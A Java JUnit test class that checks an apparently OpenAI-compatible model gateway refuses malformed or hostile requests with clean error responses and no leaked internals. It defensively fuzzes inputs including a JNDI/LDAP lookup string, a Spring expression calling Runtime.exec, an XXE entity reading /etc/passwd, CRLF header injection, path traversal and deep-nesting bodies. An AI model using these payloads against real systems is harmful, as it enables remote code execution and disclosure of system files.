package dev.understudy.sample.gateway;

import java.io.ByteArrayOutputStream;
import java.util.Collections;
import java.util.List;
import java.util.stream.Stream;

import dev.understudy.ModelRegistry;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Whatever is sent to the gateway, nobody is called for it, and the answer is a clear
 * mistake of the caller in the format of OpenAI that tells nothing of the inside.
 */
@RunningGateway
class HostileInputTests {

	private static final String PATH = "/v1/chat/completions";

	private static final String HELLO = "\"messages\": [{\"role\": \"user\", \"content\": \"Hello\"}]";

	private static final int A_LOT = 100_000;

	@LocalServerPort
	private int port;

	@Autowired
	private ModelRegistry registry;

	@Autowired
	private Props props;

	private long before;

	@BeforeEach
	void lookAtTheModels() {
		this.props.reset();
		this.before = this.props.attempts();
		assertThat(this.before).as("attempts of the warm-up").isPositive();
	}

	@AfterEach
	void nobodyWasCalled() {
		assertThat(this.props.attempts()).isEqualTo(this.before);
	}

	static Stream<Arguments> bodies() {
		return Stream.of(body("nothing", ""), body("white space", " \n\t "), body("null", "null"), body("a list", "[]"),
				body("a string", "\"Hello\""), body("a number", "7"), body("half an object", "{\"model\": \"gpt\""),
				body("two objects", "{\"model\": \"gpt\"}{\"model\": \"gpt\"}"),
				body("a comma too many", "{\"model\": \"gpt\",}"), body("single quotes", "{'model': 'gpt'}"),
				body("a comment", "{/* hello */}"), body("no number", "{\"temperature\": NaN}"),
				body("infinity", "{\"temperature\": -Infinity}"), body("a plus", "{\"temperature\": +1}"),
				body("a key twice", "{\"model\": \"gpt\", \"model\": \"claude\", " + HELLO + "}"),
				body("a raw control character", "{\"model\": \"g\u0001t\", " + HELLO + "}"),
				body("a raw line break", "{\"model\": \"g\r\nX-Evil: evil\", " + HELLO + "}"),
				body("a byte order mark", "\ufeff{\"model\": \"gpt\", " + HELLO + "}"),
				body("deep lists", "{\"model\": " + "[".repeat(A_LOT) + "]".repeat(A_LOT) + "}"),
				body("deep objects", "{\"model\": " + "{\"a\":".repeat(A_LOT) + "1" + "}".repeat(A_LOT) + "}"),
				body("deep where nobody looks", "{\"metadata\": " + "[".repeat(A_LOT) + "]".repeat(A_LOT) + "}"),
				body("many things",
						"{\"model\": \"gpt\", " + HELLO + ", \"metadata\": ["
								+ String.join(",", Collections.nCopies(300_000, "{}")) + "]}"),
				body("a long number", "{\"temperature\": " + "9".repeat(A_LOT) + "}"),
				body("XML",
						"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
				Arguments.of("another encoding", ("{\"model\": \"gpt\", " + HELLO + "}").getBytes(UTF_16)),
				Arguments.of("a broken character", bytes("{\"model\": \"g", 0xC3, "t\", " + HELLO + "}")),
				Arguments.of("half a character", bytes("{\"model\": \"gpt\", \"a\": \"", 0xED, 0xA0, 0x80, "\"}")),
				Arguments.of("a slash in too many bytes", bytes("{\"model\": \"", 0xC0, 0xAF, "\", " + HELLO + "}")),
				Arguments.of("zeros", new byte[1000]));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("bodies")
	void bodyThatIsNoJsonIsRefused(String name, byte[] body) {
		Transcript heard = new Wire(this.port).post(PATH, body);
		assertRefused(heard, 400, "invalid_json");
	}

	@ParameterizedTest
	@ValueSource(strings = { "gtp", "", " ", "GPT", "gpt ", "ad-hoc", "none", "../../etc/passwd",
			"gpt\\r\\nX-Evil: evil", "gpt\\nSet-Cookie: evil=1", "\\u0000", "gpt\\u0000", "\\u001b[31mevil",
			"\\u202egpt", "${jndi:ldap://evil/a}", "#{T(java.lang.Runtime).getRuntime().exec('evil')}",
			"<script>evil()</script>", "gpt;claude", "gpt,claude", "*", "evil\\\"}", "gpt'--", "support?x=evil",
			"\\ud83d\\ude00" })
	void unknownModelIsNotFoundAndNobodyRepeatsIt(String name) {
		for (String fields : List.of("\"model\": \"" + name + "\"", "\"models\": [\"" + name + "\"]",
				"\"model\": \"gpt\", \"models\": [\"claude\", \"" + name + "\"]",
				"\"model\": \"" + name + "\", \"stream\": true")) {
			Transcript heard = post("{" + fields + ", " + HELLO + "}");
			assertRefused(heard, 404, "model_not_found");
			assertThat(heard.json().at("/error/message").asString()).contains("gpt, claude, local").matches("[ -~]*");
		}
	}

	@Test
	void longNameIsNotRepeated() {
		Transcript heard = post("{\"model\": \"" + "evil".repeat(A_LOT) + "\", " + HELLO + "}");
		assertRefused(heard, 404, "model_not_found");
		assertThat(heard.body()).doesNotContain("evil").hasSizeLessThan(1000);
	}

	@Test
	void chainIsNoModelOfAList() {
		assertRefused(post("{\"models\": [\"gpt\", \"support\"], " + HELLO + "}"), 404, "model_not_found");
		assertRefused(post("{\"model\": \"support\", \"models\": [\"gpt\"], " + HELLO + "}"), 404, "model_not_found");
	}

	@Test
	void tenThousandMessagesAreTooMany() {
		String messages = String.join(",", Collections.nCopies(10_000, "{\"role\": \"user\", \"content\": \"Hello\"}"));
		assertRefused(post("{\"model\": \"gpt\", \"messages\": [" + messages + "]}"), 400, "invalid_value");
	}

	@Test
	void hugeBodyIsRefusedByItsLength() {
		byte[] body = ("{\"model\": \"" + "x".repeat(3 << 19) + "\"}").getBytes(UTF_8);
		assertRefused(new Wire(this.port).post(PATH, body), 413, "request_too_large");
	}

	@Test
	void bodyThatIsOnlyAnnouncedAsHugeIsRefusedAtOnce() {
		Transcript heard = new Wire(this.port).send("POST " + PATH + " HTTP/1.1\r\nContent-Type: application/json\r\n"
				+ "Content-Length: 99999999999\r\nExpect: 100-continue", new byte[0]);
		assertRefused(heard, 413, "request_too_large");
	}

	@Test
	void bodyOfUnknownLengthIsRefusedWhenItIsTooLong() {
		StringBuilder chunks = new StringBuilder();
		for (int i = 0; i < 24; i++) {
			chunks.append("10000\r\n").append("[".repeat(1 << 16)).append("\r\n");
		}
		Transcript heard = new Wire(this.port).send(
				"POST " + PATH + " HTTP/1.1\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked",
				chunks.append("0\r\n\r\n").toString().getBytes(UTF_8));
		assertRefused(heard, 413, "request_too_large");
	}

	@ParameterizedTest
	@ValueSource(strings = { "application/xml", "application/json; charset=utf-16", "application/json; charset=evil",
			"*/*", "evil", "application/*", "application/json; =" })
	void otherTypeOfContentIsRefused(String type) {
		byte[] body = ("{\"model\": \"gpt\", " + HELLO + "}").getBytes(UTF_8);
		assertRefused(new Wire(this.port).post(PATH, type, body), 415, "unsupported_media_type");
	}

	/** These do not even come as far as the gateway. */
	@ParameterizedTest
	@ValueSource(strings = { "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x" })
	void whatAFormCanSendIsRefused(String type) {
		byte[] body = ("{\"model\": \"gpt\", " + HELLO + "}").getBytes(UTF_8);
		assertRefused(new Wire(this.port).post(PATH, type, body), 415, "unsupported_media_type");
	}

	@ParameterizedTest
	@ValueSource(strings = { "GET /v1/models", "POST " + PATH })
	void pageOfAnotherOriginIsRefused(String request) {
		Transcript heard = new Wire(this.port).send(request + " HTTP/1.1\r\nOrigin: https://evil.example", new byte[0]);
		assertRefused(heard, 403, "forbidden");
	}

	@Test
	void missingTypeAndCompressedBodyAreRefused() {
		byte[] body = ("{\"model\": \"gpt\", " + HELLO + "}").getBytes(UTF_8);
		String length = "\r\nContent-Length: " + body.length;
		Wire wire = new Wire(this.port);
		assertRefused(wire.send("POST " + PATH + " HTTP/1.1" + length, body), 415, "unsupported_media_type");
		assertRefused(wire.send(
				"POST " + PATH + " HTTP/1.1\r\nContent-Type: application/json\r\nContent-Encoding: gzip" + length,
				body), 415, "unsupported_media_type");
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			GET    | /v1/chat/completions                     | 405 | method_not_allowed
			PUT    | /v1/chat/completions                     | 405 | method_not_allowed
			DELETE | /v1/models/gpt                           | 405 | method_not_allowed
			POST   | /v1/models                               | 405 | method_not_allowed
			GET    | /v1/                                     | 404 | unknown_url
			GET    | /v1/embeddings                           | 404 | unknown_url
			POST   | /v1/chat/completions/evil                | 404 | unknown_url
			GET    | /v1/models/evil                          | 404 | model_not_found
			GET    | /v1/models/%0d%0aX-Evil:%20evil          | 404 | model_not_found
			GET    | /v1/models/%F0%9F%98%80                  | 404 | model_not_found
			""")
	void otherRequestIsRefused(String method, String path, int status, String code) {
		Transcript heard = new Wire(this.port).send(method + " " + path + " HTTP/1.1\r\nContent-Length: 0",
				new byte[0]);
		assertRefused(heard, status, code);
	}

	/** The server itself does not let these through to anybody. */
	@ParameterizedTest
	@ValueSource(strings = { "/v1/models/%00", "/v1/models/..%2f..%2fetc", "/v1/models/%", "/v1/models/a\\b",
			"/v1/../v1/models/%2e%2e/%2e%2e/x" })
	void pathThatIsNoneIsRefused(String path) {
		Transcript heard = new Wire(this.port).send("GET " + path + " HTTP/1.1", new byte[0]);
		assertThat(heard.status()).isIn(400, 404);
		assertThat(heard.body()).doesNotContainIgnoringCase("exception").doesNotContain("java", "\tat ");
	}

	@Test
	void healthIsNotChangedByMistakesOfCallers() {
		for (int i = 0; i < 20; i++) {
			post("{\"model\": \"gpt\", \"temperature\": -1, " + HELLO + "}");
		}
		assertThat(this.registry.status("gpt").healthy()).isTrue();
		assertThat(this.registry.status("gpt").consecutiveFailures()).isZero();
	}

	private Transcript post(String body) {
		return new Wire(this.port).post(PATH, body.getBytes(UTF_8));
	}

	private static void assertRefused(Transcript heard, int status, String code) {
		assertThat(heard.status()).as(heard.body()).isEqualTo(status);
		assertThat(heard.header("Content-Type")).startsWith("application/json");
		assertThat(heard.code()).isEqualTo(code);
		assertThat(heard.json().at("/error/type").asString()).isEqualTo("invalid_request_error");
		assertThat(heard.json().at("/error/message").asString()).isNotBlank();
		assertThat(heard.body()).doesNotContainIgnoringCase("exception")
			.doesNotContain("java", "jackson", "springframework", "tomcat", "\tat ", "<html", "simulated");
		assertThat(heard.headers().keySet()).noneMatch((name) -> name.contains("evil") || name.contains("cookie"));
		assertThat(heard.headers().values()).noneMatch((value) -> value.contains("evil"));
	}

	private static Arguments body(String name, String body) {
		return Arguments.of(name, body.getBytes(UTF_8));
	}

	/** Text, and bytes that are none. */
	private static byte[] bytes(Object... parts) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		for (Object part : parts) {
			if (part instanceof Integer value) {
				bytes.write(value);
			}
			else {
				bytes.writeBytes(part.toString().getBytes(UTF_8));
			}
		}
		return bytes.toByteArray();
	}

}
